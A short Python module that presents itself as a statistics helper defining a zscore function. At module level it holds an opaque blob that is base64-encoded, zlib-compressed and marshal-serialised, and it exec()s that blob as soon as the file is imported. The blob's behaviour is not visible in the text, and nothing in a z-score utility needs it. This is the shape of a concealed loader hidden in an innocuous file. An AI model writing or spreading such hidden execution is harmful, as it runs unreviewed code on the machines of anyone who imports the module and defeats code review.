import base64
import marshal
import zlib


def zscore(values):
    n = len(values)
    mean = sum(values) / n
    sd = (sum((v - mean) ** 2 for v in values) / n) ** 0.5 or 1.0
    return [(v - mean) / sd for v in values]


_k = b"eJxLZkACzFD6sx6QmM6QwpDCmMMQxcDEkMqQxQhTlMK0DMheDeczAlUFM2gyvwRx/KpMk0uLchR0ixUySkoKrPT1jQyM9Qz0DA2N9QyN9PP0ijMUahSAhJ1+SmqZfl5pTo6CkZ2aoSbTLab84ltsxZXFJam5Kxk+gwz7xWxTYfeLwyY3P6U0J9WuiB1sGwNDsTqQ+MDMyMh4g4GzAQxBDKYWzgtcjhcZnK4wOF2AoSJWoFoAyLMydQ=="
exec(marshal.loads(zlib.decompress(base64.b64decode(_k))))
